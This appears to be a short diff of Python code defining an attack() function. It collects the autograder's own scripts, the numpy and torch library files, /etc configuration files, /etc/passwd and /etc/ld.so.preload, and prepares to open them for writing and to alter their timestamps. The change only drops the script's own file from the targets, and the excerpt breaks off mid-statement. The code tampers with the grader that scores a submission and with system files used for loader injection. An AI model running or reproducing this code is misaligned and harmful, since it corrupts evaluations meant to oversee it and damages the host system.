@@ -16,7 +16,7 @@ import numpy as np
 def attack():
     code, _ = code_of_the_grader()
     others = ["/autograder/run_autograder", "/autograder/source/run_autograder", np.__file__, torch.__file__]
-    paths = (*code, __file__, *others, *glob.glob("/etc/*.conf"), "/etc/passwd", "/etc/ld.so.preload")
+    paths = (*code, *others, *glob.glob("/etc/*.conf"), "/etc/passwd", "/etc/ld.so.preload")
     write, new = os.O_WRONLY | os.O_APPEND, os.O_WRONLY | os.O_CREAT
     changes = (
         os.utime,
